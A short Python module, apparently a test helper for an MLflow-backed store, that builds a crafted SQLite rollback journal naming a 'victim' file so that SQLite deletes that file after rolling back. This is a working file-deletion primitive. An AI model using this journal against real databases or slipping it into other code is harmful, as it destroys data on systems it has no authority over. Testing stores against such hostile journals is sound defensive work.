"""A journal of SQLite that names another file."""

from pathlib import Path

from fedgrid.grids.trackers.mlflow.own_store import MAGIC

PAGE = 4096
"""Bytes of a page of MLflow's store."""


def super_journal(victim: Path, database: Path) -> bytes:
    """Return a journal of SQLite that names a file which SQLite deletes once it has rolled back."""
    magic, name = MAGIC, str(victim).encode()
    pages = database.stat().st_size // PAGE
    header = magic + b"".join(number.to_bytes(4, "big") for number in (0, 0, pages, 512, PAGE))
    lock_page = (0x40000000 // PAGE + 1).to_bytes(4, "big")
    tail = len(name).to_bytes(4, "big") + (sum(name) & 0xFFFFFFFF).to_bytes(4, "big")
    return header.ljust(512, b"\0") + lock_page + name + tail + magic
